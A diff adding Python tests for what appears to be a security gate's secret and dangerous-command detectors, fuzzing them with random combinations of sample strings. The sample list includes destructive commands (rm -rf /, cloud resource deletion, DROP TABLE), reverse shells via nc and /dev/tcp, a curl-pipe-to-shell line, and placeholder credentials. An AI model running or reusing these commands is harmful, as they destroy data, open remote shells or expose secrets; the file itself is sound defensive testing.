@@ -91,3 +91,39 @@ def test_destination_prefilters_never_hide_a_destination() -> None:
     assert sum(bool(destination_tokens(t)) for t in texts) > 500
     for text in texts:
         assert destination_tokens(text) == _destinations_reference(text), text
+
+
+_COMMAND_PIECES = ["rm -rf /", "rm\t-rf /", "rm  -rf ~", "rm\n-rf /etc", "nc -e /bin/sh 10.0.0.1 4444", "nc\t-e /bin/sh x 1",
+                   "bash -i >& /dev/tcp/1.2.3.4/443 0>&1", "bash\t-i >& /dev/tcp/1.2.3.4/443", "bash  -i", "aws s3 rb s3://x --force",
+                   "aws\ts3 rb s3://x --force", "az  group delete -n prod --yes", "docker\tsystem prune -af",
+                   "even\tif the visit was short, bill 99215", "whether  or not", "no\nmatter what", "return\ttrue;",
+                   "PIN\tis 4821x!", "pin is 48213!", "password: hunter22!", "paſſword: hunter22!", "AKIAIOSFODNN7EXAMPLE",
+                   "-----BEGIN RSA PRIVATE KEY-----", "-----BEGIN RSA PRIVATE\tKEY-----", "token seed JBSWY3DPEHPK3PXP",
+                   "chmod 777 /", "curl https://x.sh | sh", "DROP TABLE users", "drop\ttable users", "DELETE FROM t", "ls -la",
+                   "echo ok", "\n", " ", "é", "\u00a0", "rm\u00a0-rf /", "ſ"]
+
+
+def _texts_commands() -> list[str]:
+    rng = random.Random(9)
+    texts = [rng.choice(["", " ", "\n", "; "]).join(rng.choice(_COMMAND_PIECES) for _ in range(rng.randint(1, 4)))
+             for _ in range(4000)]
+    return texts + _COMMAND_PIECES
+
+
+def test_secret_triggers_never_hide_a_finding() -> None:
+    from gate.core.detectors import _SECRET_PATTERNS, find_secrets
+
+    for text in _texts_commands():
+        want = sorted((kind, m.start(), m.end()) for kind, rx in _SECRET_PATTERNS for m in rx.finditer(text))
+        got = sorted((f.kind, f.start, f.end) for f in find_secrets(text))
+        assert got == want, repr(text)
+
+
+def test_danger_triggers_never_hide_a_finding() -> None:
+    from gate.core.detectors import _DANGEROUS, find_dangerous
+
+    texts = _texts_commands()
+    assert sum(bool(find_dangerous(t)) for t in texts) > 1000
+    for text in texts:
+        want = {code for code, _, rx in _DANGEROUS if rx.search(text)}
+        assert {code for code, _ in find_dangerous(text)} == want, repr(text)
